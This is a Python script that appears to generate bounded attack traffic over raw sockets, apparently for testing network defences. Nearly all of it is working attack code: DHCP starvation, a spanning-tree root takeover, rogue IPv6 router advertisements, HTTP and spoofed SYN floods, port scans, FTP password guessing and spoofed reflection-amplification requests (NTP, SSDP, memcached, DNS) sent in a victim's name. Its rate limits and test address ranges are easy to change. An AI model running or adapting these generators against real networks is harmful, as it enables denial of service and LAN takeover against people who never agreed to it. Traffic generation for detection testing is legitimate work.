#!/usr/bin/env python3
"""Frames that no packaged tool sends in a bounded way: DHCP clients, bridges, neighbours, routers, crowds, forged requests.

usage: senders.py KIND [ARGUMENT...]
"""
import os
import socket
import struct
import sys
import time

BROADCAST = b"\xff" * 6


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def paced(count, pause):
    """0, 1, ... count - 1, a pause apart; who was kept waiting makes up for it."""
    begin = time.monotonic()
    for i in range(int(count)):
        ahead = begin + i * float(pause) - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
        yield i


def wire():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    return s


def discover(mac):
    """A DHCPDISCOVER of this client (RFC 2131), answers wanted to all."""
    dhcp = struct.pack("!BBBB4sHH16x16s192x4s", 1, 1, 6, 0, os.urandom(4), 0, 0x8000, mac + b"\0" * 10, b"\x63\x82\x53\x63")
    dhcp += b"\x35\x01\x01\xff" + b"\0" * 56
    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return BROADCAST + mac + b"\x08\0" + ip + udp


def dhcp_clients(count, pause):
    out = wire()
    for i in paced(count, pause):
        out.send(discover(b"\x02\x99" + struct.pack("!I", i)))


def bpdu(priority, bridge):
    mac = b"\x02\0\0\0\x01" + bytes([bridge])
    ident = struct.pack("!H", priority) + mac
    body = b"\x42\x42\x03\0\0\0\0\0" + ident + b"\0" * 4 + ident + struct.pack("!HHHHH", 0x8001, 0, 20 << 8, 2 << 8, 15 << 8)
    return b"\x01\x80\xc2\0\0\0" + mac + struct.pack("!H", len(body)) + body + b"\0" * 8


def bridges(count, pause):
    """The site's bridge says hello; then another takes over."""
    out = wire()
    for i in paced(count, pause):
        out.send(bpdu(0x8000, 1) if i < int(count) // 2 else bpdu(0, 0x66))


def neighbours(count, pause):
    out = wire()
    for i in paced(count, pause):
        mac = b"\x02\x88" + struct.pack("!I", i)
        out.send(b"\x01\x80\xc2\0\0\x0e" + mac + b"\x88\xcc\x02\x07\x04" + mac + b"\x04\x02\x07p\x06\x02\0\x78" + b"\0" * 30)


def router(count, pause):
    """The site's own router advertises itself (RFC 4861)."""
    mac = b"\x02\x66\0\0\0\x01"
    src, dst = socket.inet_pton(socket.AF_INET6, "fe80::66:1"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    icmp = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + mac
    total = checksum(src + dst + struct.pack("!II", len(icmp), 58) + icmp)
    icmp = icmp[:2] + struct.pack("!H", total) + icmp[4:]
    frame = b"\x33\x33\0\0\0\x01" + mac + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + src + dst + icmp
    out = wire()
    for _ in paced(count, pause):
        out.send(frame)


def connect_as(n, host, port, wait=True):
    """A connection of one of the attacker's crowd (10.66.3.0/24)."""
    s = socket.socket()
    s.bind(("10.66.3.%d" % (1 + n % 200), 0))
    s.settimeout(2)
    s.setblocking(wait)
    s.connect_ex((host, port))
    return s


def crowd(host, count, pause):
    """One page, asked for by many clients, a connection each."""
    request = b"GET /index.html HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n"
    waiting = []
    for i in paced(count, pause):
        waiting.append(connect_as(i, host, 80))
        waiting[-1].send(request)
    for s in waiting:
        s.close()


def scanning_crowd(host, count, pause):
    """A port each, of many hosts."""
    for i in paced(count, pause):
        connect_as(i, host, 1000 + i, wait=False).close()


def guessing_crowd(host, count, pause):
    """A wrong password each, of many hosts (FTP)."""
    for i in paced(count, pause):
        with connect_as(i % 25, host, 21) as s:
            for line in (b"USER admin\r\n", b"PASS wrong-%d\r\n" % i, b"QUIT\r\n"):
                s.recv(200)
                s.send(line)
            s.recv(200)


def udp4(src, dst, sport, dport, data):
    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp


def question(name, kind):
    """A DNS query that takes answers of 4096 bytes (RFC 1035, RFC 6891)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\1" + labels + struct.pack("!BHH", 0, kind, 1) + b"\0\0\x29\x10\0\0\0\0\0\0\0"


REQUESTS = {123: b"\x17\0\x03\x2a" + b"\0" * 4, 1900: b"M-SEARCH * HTTP/1.1\r\nST: upnp:rootdevice\r\n\r\n",
            11211: b"\0\0\0\0\0\x01\0\0get big\r\n"}


def forged_requests(victim, port, count, pause):
    """Requests in the victim's name to the site's remote hosts, as whoever reflects sends them."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in paced(count, pause):
        host = "203.0.113.%d" % (1 + i % 20)
        data = REQUESTS.get(int(port)) or question("big.test", 16)
        raw.sendto(udp4(victim, host, 20000 + i % 5000, int(port), data), (host, 0))


def carpet(prefix, count, pause):
    """Datagrams of random hosts to all hosts of an IPv4 /24."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in paced(count, pause):
        host = "%s.%d" % (prefix, 1 + i * 7 % 254)
        raw.sendto(udp4("198.18.%d.%d" % tuple(os.urandom(2)), host, 1024 + i % 60000, 80, b"0123456789"), (host, 0))


def quic_initials(host, count, pause):
    """First packets of QUIC connections (RFC 9000 section 17.2.2) that nobody goes on with."""
    for _ in paced(count, pause):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\xc3\0\0\0\x01\x08" + os.urandom(8) + b"\0\0\x44\xa0" + b"\0" * 1184, (host, 443))


def syns_ipv6(host, count, pause):
    """Connections begun by random hosts."""
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_pton(socket.AF_INET6, host)
    for _ in paced(count, pause):
        src = b"\x20\x01\x0d\xb8" + os.urandom(12)
        tcp = os.urandom(2) + struct.pack("!HIIBBHHH", 80, 1, 0, 5 << 4, 2, 8192, 0, 0)
        total = checksum(src + dst + struct.pack("!II", len(tcp), 6) + tcp)
        tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
        raw.sendto(struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst + tcp, (host, 0))


def lookups_in_gre(src, dst, count, pause):
    """DNS queries of five hosts in a GRE tunnel (RFC 2784)."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
    raw.bind((src, 0))
    for i in paced(count, pause):
        inner = udp4("10.66.4.%d" % (1 + i % 5), "203.0.113.53", 30000 + i, 53, question("www%d.site.test" % i, 1))
        raw.sendto(b"\0\0\x08\0" + inner, (dst, 0))


KINDS = {f.__name__: f for f in (dhcp_clients, bridges, neighbours, router, crowd, scanning_crowd, guessing_crowd,
                                 forged_requests, carpet, quic_initials, syns_ipv6, lookups_in_gre)}
KINDS[sys.argv[1]](*sys.argv[2:])
